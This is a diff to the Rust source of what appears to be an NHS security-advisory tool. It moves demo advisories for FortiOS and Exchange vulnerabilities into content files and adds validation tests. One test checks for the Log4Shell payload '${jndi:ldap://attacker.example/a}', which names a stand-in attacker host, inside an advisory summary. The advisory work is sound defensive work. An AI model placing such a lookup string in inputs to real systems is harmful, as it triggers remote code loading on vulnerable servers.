-                >= 7.0.0, <= 7.0.13; >= 6.4.0, <= 6.4.14; >= 6.2.0, <= 6.2.15; \
-                >= 6.0.0, < 6.2.0 | cpe:2.3:o:fortinet:fortios:*:*:*:*:*:*:*:*\n\
-                Fortinet | FortiProxy | >= 7.4.0, <= 7.4.2; >= 7.2.0, <= 7.2.8; \
-                >= 7.0.0, <= 7.0.14; >= 2.0.0, <= 2.0.13; >= 1.0.0, < 2.0.0 | \
-                cpe:2.3:a:fortinet:fortiproxy:*:*:*:*:*:*:*:*",
-            cves: "CVE-2024-21762 | CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H",
-            remediation: &[
-                "Upgrade FortiOS to 7.4.3, 7.2.7, 7.0.14, 6.4.15 or 6.2.16, or later. FortiOS \
-                 6.0 will not be fixed: move those devices to a supported release.",
-                "Upgrade FortiProxy to 7.4.3, 7.2.9, 7.0.15 or 2.0.14, or later; move devices \
-                 on FortiProxy 1.x to a supported release.",
-                "Before and after upgrading, check the device for signs of compromise using \
-                 Fortinet's guidance, and report anything you find to CareCERT as an incident.",
-            ],
-            workarounds: &[
-                "Until you can upgrade, turn off SSL VPN. Turning off web mode alone does not \
-                 protect the device.",
-            ],
-            references: &[
-                (
-                    "https://www.fortiguard.com/psirt/FG-IR-24-015",
-                    "Fortinet PSIRT: FG-IR-24-015, out-of-bounds write in sslvpnd",
-                ),
-                (
-                    "https://nvd.nist.gov/vuln/detail/CVE-2024-21762",
-                    "NVD: CVE-2024-21762",
-                ),
-                (
-                    "https://www.cisa.gov/known-exploited-vulnerabilities-catalog",
-                    "CISA Known Exploited Vulnerabilities catalogue",
-                ),
-            ],
-            ack_hours: Some(48),
-        },
-        larger_organisations(),
-    )
-}
-
-/// Written by an analyst and waiting for a second one to review and publish it.
-pub fn exchange() -> anyhow::Result<AdvisoryContent> {
-    build(
-        Text {
-            title: "Microsoft Exchange Server: relayed NTLM credentials let attackers act as \
-                users (CVE-2024-21410)",
-            severity: Severity::Critical,
-            severity_reason: "Exploited in the wild and listed in the CISA Known Exploited \
-                Vulnerabilities catalogue. An attacker who captures a user's NTLM credentials \
-                can act as that user on Exchange with nothing more from them. Several trusts \
-                still run Exchange on their own servers for local mailboxes and mail relays.",
-            tlp: Tlp::Clear,
-            summary: "Exchange Server accepts NTLM authentication without Extended Protection \
-                for Authentication unless it has been turned on. An attacker who gets an \
-                Outlook client, or any other client, to send its NTLM credentials to them can \
-                relay those credentials to Exchange and act as the user. Exchange Server 2019 \
-                Cumulative Update 14 turns Extended Protection on by default; older builds and \
-                Exchange Server 2016 need it turned on by hand.",
-            actively_exploited: true,
-            in_kev: true,
-            affected: "Microsoft | Exchange Server | >= 15.1.0, < 15.2.1544.4 | \
-                cpe:2.3:a:microsoft:exchange_server:*:*:*:*:*:*:*:*",
-            cves: "CVE-2024-21410 | CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H",
-            remediation: &[
-                "Install Exchange Server 2019 Cumulative Update 14 or later, which turns on \
-                 Extended Protection during setup.",
-                "On Exchange Server 2016 Cumulative Update 23, and on 2019 servers that cannot \
-                 take the update yet, turn on Extended Protection with Microsoft's \
-                 ExchangeExtendedProtectionManagement.ps1 script, after checking its \
-                 prerequisites.",
-                "Before turning it on, check that load balancers and proxies in front of \
-                 Exchange do not offload TLS: Extended Protection does not work with TLS \
-                 offloading.",
-            ],
-            workarounds: &[],
-            references: &[
-                (
-                    "https://msrc.microsoft.com/update-guide/vulnerability/CVE-2024-21410",
-                    "Microsoft: CVE-2024-21410 security update guide",
-                ),
-                (
-                    "https://learn.microsoft.com/en-us/exchange/plan-and-deploy/post-installation-tasks/security-best-practices/exchange-extended-protection",
-                    "Microsoft: configure Windows Extended Protection in Exchange Server",
-                ),
-                (
-                    "https://nvd.nist.gov/vuln/detail/CVE-2024-21410",
-                    "NVD: CVE-2024-21410",
-                ),
-            ],
-            ack_hours: Some(48),
-        },
-        larger_organisations(),
-    )
-}
-
-/// A catalogue entry as the CISA KEV import reads it; the demo draft is made from it.
+/// A catalogue entry as the CISA KEV import reads it; the demo draft is made from it. Kept
+/// here rather than in a content file: it stands for an imported entry, not authored text.
 pub fn kev_pan_os() -> KevEntry {
     KevEntry {
         cve_id: "CVE-2024-3400".to_owned(),
@@ -593,20 +422,12 @@ mod tests {
     use super::*;
     use crate::alerts::{kev, rules::cvss};
 
+    fn read(name: &str) -> AdvisoryContent {
+        content(name).unwrap_or_else(|e| panic!("{e}"))
+    }
+
     fn all() -> Vec<AdvisoryContent> {
-        [
-            openssl(),
-            moveit(),
-            log4j_first(),
-            log4j_second(),
-            citrix_bleed(),
-            phishing(),
-            fortios(),
-            exchange(),
-        ]
-        .into_iter()
-        .map(|c| c.expect("the demo advisory reads"))
-        .collect()
+        DEMO.iter().map(|name| read(name)).collect()
     }
 
     #[test]
@@ -626,15 +447,15 @@ mod tests {
                 .and_then(|v| v.cvss_score)
                 .unwrap_or_else(|| panic!("{id} has a score"))
         };
-        let log4j = log4j_second().unwrap();
-        assert_eq!(score(&citrix_bleed().unwrap(), "CVE-2023-4966"), 9.4);
+        let log4j = read("log4j-second");
+        assert_eq!(score(&read("citrix-bleed"), "CVE-2023-4966"), 9.4);
         assert_eq!(score(&log4j, "CVE-2021-44228"), 10.0);
         assert_eq!(score(&log4j, "CVE-2021-45046"), 9.0);
         assert_eq!(score(&log4j, "CVE-2021-45105"), 5.9);
         assert_eq!(score(&log4j, "CVE-2021-44832"), 6.6);
-        assert_eq!(score(&moveit().unwrap(), "CVE-2023-34362"), 9.8);
-        assert_eq!(score(&fortios().unwrap(), "CVE-2024-21762"), 9.8);
-        assert_eq!(score(&exchange().unwrap(), "CVE-2024-21410"), 9.8);
+        assert_eq!(score(&read("moveit"), "CVE-2023-34362"), 9.8);
+        assert_eq!(score(&read("fortios"), "CVE-2024-21762"), 9.8);
+        assert_eq!(score(&read("exchange"), "CVE-2024-21410"), 9.8);
         for c in all() {
             for v in &c.cves {
                 let vector = v.cvss_vector.as_deref().expect("a vector");
@@ -646,8 +467,8 @@ mod tests {
     #[test]
     fn the_revision_moves_the_affected_versions_to_the_later_fixes() {
         use crate::alerts::rules::versions::any_contains;
-        let first = &log4j_first().unwrap().affected[0].versions;
-        let second = &log4j_second().unwrap().affected[0].versions;
+        let first = &read("log4j-first").affected[0].versions;
+        let second = &read("log4j-second").affected[0].versions;
         for (version, before, after) in [
             ("2.14.1", true, true),
             ("2.16.0", false, true),
@@ -670,7 +491,248 @@ mod tests {
             .collect();
         assert_eq!(amber.len(), 1);
         assert!(amber[0].starts_with("Fortinet"));
-        let p = phishing().unwrap();
+        let p = read("phishing");
         assert!(p.cves.is_empty() && p.affected.is_empty() && !p.ack_required);
+    }
+
+    #[test]
+    fn the_larger_organisations_get_the_fortinet_and_exchange_advisories() {
+        let larger = Audience::Types(vec![
+            OrgType::NhsTrust,
+            OrgType::IntegratedCareBoard,
+            OrgType::Other,
+        ]);
+        assert_eq!(read("fortios").audience, larger);
+        assert_eq!(read("exchange").audience, larger);
+        assert_eq!(read("citrix-bleed").audience, Audience::All);
+    }
+
+    #[test]
+    fn references_are_the_cited_sources_in_order_as_publisher_and_title() {
+        let phishing = read("phishing");
+        let passwords = phishing
+            .references
+            .iter()
+            .find(|r| {
+                r.url == "https://www.ncsc.gov.uk/collection/passwords/updating-your-approach"
+            })
+            .expect("the NCSC password guidance");
+        assert_eq!(
+            passwords.title,
+            "NCSC: Password policy: updating your approach"
+        );
+        let moveit = read("moveit");
+        assert!(moveit.references[0].title.starts_with("Progress: "));
+        assert_eq!(moveit.references.len(), 3);
+    }
+
+    #[test]
+    fn wrapped_prose_reads_as_single_spaced_paragraphs() {
+        assert_eq!(
+            prose("  One line\n  wrapped   here.\n\n\nA second\nparagraph.\n"),
+            "One line wrapped here.\n\nA second paragraph."
+        );
+        let summary = read("log4j-first").summary;
+        assert!(
+            !summary.contains('\n') && !summary.contains("  "),
+            "{summary}"
+        );
+        assert!(summary.contains("${jndi:ldap://attacker.example/a}"));
+    }
+
+    #[test]
+    fn the_corrected_facts_are_those_the_publishers_now_give() {
+        let exchange = read("exchange");
+        let all_text = |c: &AdvisoryContent| {
+            [c.summary.clone(), c.severity_reason.clone()]
+                .into_iter()
+                .chain(c.remediation.iter().cloned())
+                .chain(c.workarounds.iter().cloned())
+                .collect::<Vec<_>>()
+                .join(" ")
+        };
+        let text = all_text(&exchange);
+        assert!(text.contains("14 October 2025"), "{text}");
+        assert!(text.contains("Subscription Edition"), "{text}");
+        assert!(text.contains("Extended Protection"), "{text}");
+
+        let openssl = builtin("openssl").expect("openssl");
+        let withdrawn = openssl.withdrawn_reason.expect("a reason");
+        assert!(withdrawn.contains("3.5"), "{withdrawn}");
+        assert!(
+            !withdrawn.contains("upgrade OpenSSL 3.0 to 3.0.7"),
+            "{withdrawn}"
+        );
+        assert!(
+            !all_text(&openssl.content).contains("upgrade each of them to OpenSSL 3.0.7"),
+            "the remediation no longer keeps people on 3.0"
+        );
+        assert!(builtin(REVISION).expect("revision").revision_note.is_some());
+    }
+
+    /// A folder holding the shipped files with `name` replaced by `text`.
+    fn folder_with(name: &str, text: &str) -> tempfile::TempDir {
+        let dir = tempfile::tempdir().expect("a temporary folder");
+        let advisories = dir.path().join(FOLDER);
+        std::fs::create_dir(&advisories).expect("the advisories folder");
+        let shipped = Path::new(env!("CARGO_MANIFEST_DIR"))
+            .join("content")
+            .join(FOLDER);
+        for other in DEMO {
+            let file = format!("{other}.toml");
+            std::fs::copy(shipped.join(&file), advisories.join(&file)).expect("copied");
+        }
+        std::fs::write(advisories.join(format!("{name}.toml")), text).expect("written");
+        dir
+    }
+
+    fn shipped(name: &str) -> String {
+        let path = Path::new(env!("CARGO_MANIFEST_DIR"))
+            .join("content")
+            .join(FOLDER)
+            .join(format!("{name}.toml"));
+        std::fs::read_to_string(path).expect("the shipped file")
+    }
+
+    #[test]
+    fn the_shipped_folder_passes_with_a_date_on_every_source() {
+        let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("content");
+        let report = check_folder(&root);
+        assert_eq!(report.problems, vec![]);
+        assert_eq!(report.passed.len(), DEMO.len());
+        assert!(
+            report
+                .passed
+                .iter()
+                .any(|l| l.starts_with("advisory exchange (")),
+            "{:?}",
+            report.passed
+        );
+        assert!(report.sources.iter().all(|(_, s)| s.checked.is_some()));
+        assert!(
+            report
+                .sources
+                .iter()
+                .any(|(file, _)| file == "advisories/exchange.toml")
+        );
+    }
+
+    /// The problems the check reports for `name` with `text`, all of which name its file.
+    fn problems_with(name: &str, text: &str) -> Vec<String> {
+        let dir = folder_with(name, text);
+        let report = check_folder(dir.path());
+        let file = format!("advisories/{name}.toml");
+        assert!(!report.problems.is_empty(), "{name} passed");
+        for p in &report.problems {
+            assert_eq!(p.file, file, "{p}");
+        }
+        report.problems.into_iter().map(|p| p.message).collect()
+    }
+
+    #[test]
+    fn an_unknown_reference_id_is_reported_naming_the_file() {
+        let text =
+            shipped("moveit").replacen("references = [", "references = [\"no-such-source\", ", 1);
+        let problems = problems_with("moveit", &text);
+        assert!(
+            problems.iter().any(|p| p.contains("\"no-such-source\"")),
+            "{problems:?}"
+        );
+    }
+
+    #[test]
+    fn a_source_without_a_checked_date_is_reported_naming_the_file() {
+        let text = shipped("phishing");
+        let text: String = text
+            .lines()
+            .filter(|l| !l.starts_with("checked ="))
+            .collect::<Vec<_>>()
+            .join("\n");
+        let problems = problems_with("phishing", &text);
+        assert!(
+            problems.iter().any(|p| p.contains("no checked date")),
+            "{problems:?}"
+        );
+    }
+
+    #[test]
+    fn a_bad_affected_line_is_reported_naming_the_file() {
+        let text = shipped("fortios").replacen(
+            "Fortinet | FortiOS |",
+            "Fortinet FortiOS without the bars\nFortinet | FortiOS |",
+            1,
+        );
+        let problems = problems_with("fortios", &text);
+        assert!(
+            problems.iter().any(|p| p.starts_with("affected: line ")),
+            "{problems:?}"
+        );
+    }
+
+    #[test]
+    fn unknown_fields_and_words_and_unused_sources_are_reported() {
+        let text = shipped("citrix-bleed").replacen("tlp = \"CLEAR\"", "tlp = \"WHITE\"", 1);
+        assert!(!problems_with("citrix-bleed", &text).is_empty());
+        let text = format!("colour = \"red\"\n{}", shipped("citrix-bleed"));
+        let problems = problems_with("citrix-bleed", &text);
+        assert!(
+            problems.iter().any(|p| p.contains("colour")),
+            "{problems:?}"
+        );
+        let text = shipped("exchange").replacen(
+            "audience = [\"nhs_trust\"",
+            "audience = [\"hospital\"",
+            1,
+        );
+        let problems = problems_with("exchange", &text);
+        assert!(
+            problems.iter().any(|p| p.contains("\"hospital\"")),
+            "{problems:?}"
+        );
+        let text = format!(
+            "{}\n[[sources]]\nid = \"spare\"\npublisher = \"NCSC\"\ntitle = \"Spare\"\n\
+             url = \"https://www.ncsc.gov.uk/\"\nchecked = 2026-11-29\n",
+            shipped("exchange")
+        );
+        let problems = problems_with("exchange", &text);
+        assert!(
+            problems
+                .iter()
+                .any(|p| p.contains("\"spare\" is declared but not")),
+            "{problems:?}"
+        );
+    }
+
+    #[test]
+    fn a_missing_folder_or_demo_file_is_a_problem() {
+        let empty = tempfile::tempdir().expect("a temporary folder");
+        let report = check_folder(empty.path());
+        assert_eq!(report.problems.len(), 1);
+        assert_eq!(report.problems[0].file, "advisories");
+
+        let dir = folder_with("openssl", &shipped("openssl"));
+        std::fs::remove_file(dir.path().join(FOLDER).join("moveit.toml")).expect("removed");
+        let report = check_folder(dir.path());
+        assert_eq!(report.problems.len(), 1, "{:?}", report.problems);
+        assert_eq!(report.problems[0].file, "advisories/moveit.toml");
+    }
+
+    #[test]
+    fn the_files_the_demo_withdraws_and_revises_must_say_why() {
+        for (name, field) in [(WITHDRAWN, "withdrawn_reason"), (REVISION, "revision_note")] {
+            let text = shipped(name);
+            let open = format!("{field} = \"\"\"");
+            let start = text.find(&open).expect("the field");
+            let body = start + open.len();
+            let end = body + text[body..].find("\"\"\"\n").expect("its end") + 4;
+            let without = format!("{}{}", &text[..start], &text[end..]);
+            let problems = problems_with(name, &without);
+            assert!(
+                problems
+                    .iter()
+                    .any(|p| p.contains(&format!("needs {field}"))),
+                "{problems:?}"
+            );
+        }
     }
 }
